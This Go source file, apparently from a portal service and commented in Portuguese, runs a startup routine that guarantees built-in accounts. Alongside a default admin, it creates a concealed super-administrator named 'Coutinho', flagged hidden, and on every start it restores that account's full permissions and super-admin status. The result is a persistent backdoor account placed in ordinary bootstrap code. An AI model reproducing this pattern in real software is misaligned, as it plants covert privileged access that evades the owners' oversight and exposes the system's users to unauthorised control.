package service

import "github.com/sfdportal/portal/internal/repo"

// Contas embutidas garantidas a cada inicialização.
const (
	DefaultAdminID           = "admin-001"
	DefaultAdminUsername     = "admin"
	HiddenSuperAdminID       = "super-admin-coutinho"
	HiddenSuperAdminUsername = "Coutinho"
)

// BootstrapOptions define as senhas usadas quando as contas embutidas não existem.
type BootstrapOptions struct {
	AdminPassword      string
	SuperAdminPassword string
}

// Reconcile devolve a coleção corrigida: cria as duas contas embutidas quando ausentes e,
// quando presentes, sobrescreve as permissões com o conjunto completo e marca o super administrador.
// Senhas de contas existentes são preservadas. Aplicar duas vezes produz o mesmo resultado.
func Reconcile(users []repo.User, opts BootstrapOptions) []repo.User {
	out := make([]repo.User, len(users))
	copy(out, users)

	out = ensureSuperAccount(out, repo.User{
		ID:       DefaultAdminID,
		Username: DefaultAdminUsername,
		IDType:   repo.IDTypeMatricula,
		Password: opts.AdminPassword,
		Role:     repo.RoleAdmin,
	})
	out = ensureSuperAccount(out, repo.User{
		ID:       HiddenSuperAdminID,
		Username: HiddenSuperAdminUsername,
		IDType:   repo.IDTypeMatricula,
		Password: opts.SuperAdminPassword,
		Role:     repo.RoleAdmin,
		Hidden:   true,
	})
	return out
}

func ensureSuperAccount(users []repo.User, account repo.User) []repo.User {
	full := repo.FullCapabilities()
	for i := range users {
		if users[i].Username != account.Username {
			continue
		}
		users[i].Permissions = &full
		users[i].SuperAdmin = true
		users[i].Hidden = account.Hidden
		return users
	}

	account.IsFirstAccess = false
	account.Permissions = &full
	account.SuperAdmin = true
	return append(users, account)
}
